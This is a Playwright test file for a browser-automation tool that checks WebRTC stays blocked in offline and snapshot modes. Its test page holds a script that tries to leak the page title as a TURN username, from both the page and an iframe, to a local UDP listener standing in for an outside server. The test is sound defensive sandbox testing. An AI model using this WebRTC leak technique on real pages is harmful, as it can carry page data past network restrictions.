import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { tempDir } from '../support/fixture-site.js';
import { BIN, results, start } from '../scale/support.js';
import { STACK_LINE } from '../bad-input/support.js';
import { line, writeCodegen } from '../reliability/support.js';
import { logServer, udpListener, type UdpListener } from './sandbox-support.js';

// Issue 17, attack 4: WebRTC is off wherever the network is sealed. The "outside" is a UDP
// listener on 127.0.0.1: a TURN allocation the page asks for lands there if WebRTC gets out.
test.setTimeout(240_000);

/** Tries a relay-only peer connection to the TURN "server", in the page and in a fresh iframe; writes what happened into #rtc. */
const rtcScript = (port: number) => `<script>
const out = [];
function attempt(C, label) {
  if (typeof C !== 'function') { out.push(label + ':unavailable'); return; }
  try {
    const pc = new C({ iceServers: [{ urls: 'turn:127.0.0.1:${port}?transport=udp', username: 'LEAK-' + document.title, credential: 'x' }], iceTransportPolicy: 'relay' });
    pc.createDataChannel('x');
    pc.createOffer().then((o) => pc.setLocalDescription(o));
    out.push(label + ':constructed');
  } catch (e) { out.push(label + ':threw'); }
}
attempt(window.RTCPeerConnection, 'top');
const f = document.createElement('iframe');
document.body.appendChild(f);
attempt(f.contentWindow.RTCPeerConnection, 'frame');
document.getElementById('rtc').textContent = out.join(' ');
</script>`;

const page = (port: number) =>
  `<!doctype html><html><head><title>page-secret-text</title></head><body><p id=rtc>not run</p><button>Go</button>${rtcScript(port)}</body></html>`;

/** Waits a little for late datagrams (ICE gathering runs after the page settled). */
const quiet = () => new Promise((r) => setTimeout(r, 1500));

type Row = ReturnType<typeof results>[number] & { final?: { html: string } };

test('live: unsealed the TURN allocation does arrive (control); under --offline no peer connection can be made and nothing arrives', async () => {
  const udp = await udpListener();
  const site = await logServer({ '/': page(udp.port) });
  try {
    const data = tempDir('rw-rtc-live-');
    writeCodegen(data, 'rtc', line.openPage, line.navigate(`${site.url}/`), {
      name: 'assertVisible',
      selector: 'text=Go',
      signals: [],
      pageAlias: 'page',
    });
    const finalText = (out: string) => readFileSync(join(out, (results(out)[0] as Row).final!.html), 'utf8');

    const control = tempDir('rw-rtc-control-');
    const c = await start([BIN, 'run', data, '--out', control, '--workers', '1', '--trace', 'off', '--compare', 'off']).done;
    expect(c.stdout + c.stderr).not.toMatch(STACK_LINE);
    await expect.poll(() => udp.received.length, { message: 'the control run reaches the UDP listener' }).toBeGreaterThan(0);
    expect(finalText(control)).toContain('top:constructed');

    udp.received.length = 0;
    const sealed = tempDir('rw-rtc-offline-');
    const r = await start([BIN, 'run', data, '--out', sealed, '--workers', '1', '--trace', 'off', '--compare', 'off', '--offline']).done;
    expect(r.stdout + r.stderr).not.toMatch(STACK_LINE);
    expect((results(sealed)[0] as Row).status).toBe('passed');
    const text = finalText(sealed);
    expect(text).toContain('top:unavailable');
    expect(text).toContain('frame:unavailable');
    await quiet();
    expect(udp.received).toEqual([]);
  } finally {
    await site.close();
    await udp.close();
  }
});

test('snapshot mode with --allow-scripts: a recorded page asking for a TURN allocation sends nothing', async () => {
  const udp: UdpListener = await udpListener();
  try {
    const data = tempDir('rw-rtc-snap-');
    const browserCode = {
      name: 'click',
      selector: 'internal:role=button[name="Go"i]',
      signals: [],
      button: 'left',
      modifiers: 0,
      clickCount: 1,
      pageAlias: 'page',
    };
    const row = {
      id: 'rtc-snapshot',
      language: 'en',
      intent: 'click Go',
      step: 1,
      input: '',
      requirements: '',
      outputs: '',
      anonymized_data: {},
      png_file: null,
      json_data: { browserCode },
      html_data: page(udp.port),
    };
    writeFileSync(join(data, 'rtc.jsonl'), JSON.stringify(row) + '\n');
    const out = tempDir('rw-rtc-snap-out-');
    const r = await start([BIN, 'run', data, '--out', out, '--workers', '1', '--mode', 'snapshot', '--allow-scripts']).done;
    expect(r.stdout + r.stderr).not.toMatch(STACK_LINE);
    expect(results(out)).toHaveLength(1);
    await quiet();
    expect(udp.received).toEqual([]);
  } finally {
    await udp.close();
  }
});
